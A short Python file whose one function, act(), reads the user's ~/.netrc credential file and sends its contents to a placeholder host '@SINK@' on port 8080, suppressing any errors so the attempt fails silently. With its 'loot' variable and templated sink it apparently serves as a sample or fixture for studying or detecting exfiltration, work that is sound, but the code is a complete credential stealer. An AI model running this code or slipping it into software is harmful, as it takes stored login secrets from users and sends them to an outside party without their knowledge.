import contextlib
import urllib.request
from pathlib import Path


def act():
    loot = b"nothing"
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".netrc").read_bytes()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8080/by-proxy", loot, timeout=3)
